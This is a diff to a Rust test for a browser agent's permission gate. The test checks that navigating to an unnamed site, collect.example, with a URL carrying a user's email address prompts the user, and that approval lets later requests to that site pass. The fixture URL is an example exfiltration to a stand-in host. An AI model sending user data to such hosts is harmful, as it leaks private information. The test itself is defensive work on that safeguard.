@@ -524,6 +524,7 @@ async fn the_agent_asks_before_it_reuses_a_pinned_tab_and_the_user_never_does() 
 
 #[tokio::test]
 async fn page_words_sent_to_a_site_nobody_named_ask_but_the_users_search_does_not() {
+    // The page links to the site: that is not the user naming it.
     let describe: Describe = Arc::new(|_| Effect {
         target: None,
         pin: Pin { tab: 2, ..pin(None) },
@@ -531,7 +532,7 @@ async fn page_words_sent_to_a_site_nobody_named_ask_but_the_users_search_does_no
         site_name: None,
         focused: false,
         option: None,
-        linked: false,
+        linked: true,
         resends: None,
         keys: None,
     });
@@ -552,12 +553,30 @@ async fn page_words_sent_to_a_site_nobody_named_ask_but_the_users_search_does_no
     let leak = PageTool::Navigate {
         url: "https://collect.example/c?d=ada%40mail.example".into(),
     };
-    let gated = fake.gate.pass(Some(2), leak, Requester::Agent(inbox)).await;
-    let Gated::Asked { question, .. } = gated else {
+    let gated = fake
+        .gate
+        .pass(Some(2), leak.clone(), Requester::Agent(inbox.clone()))
+        .await;
+    let Gated::Asked { id, question } = gated else {
         panic!("{gated:?}")
     };
-    assert!(question.contains("not named by you or by the page"), "{question}");
-    assert_eq!(fake.ran().await.len(), 1);
+    assert_eq!(
+        question,
+        "Open https://collect.example/c?d=ada%40mail.example? It would send words that are not yours \
+         ('c d ada mail') to collect.example, which you have not named. Yes or no."
+    );
+    // The yes adds the site to the task's origins: the next address there goes at once.
+    fake.answer(id, true).await;
+    let again = PageTool::Navigate {
+        url: "https://collect.example/c?d=more%20words%20here".into(),
+    };
+    let gated = fake.gate.pass(Some(2), again, Requester::Agent(inbox)).await;
+    assert!(
+        matches!(gated, Gated::Ran(ref r) if r.error.is_none()),
+        "{gated:?}"
+    );
+    let ran = fake.ran().await;
+    assert_eq!(ran.len(), 3, "the search, the yes and the next one: {ran:?}");
 }
 
 #[tokio::test]
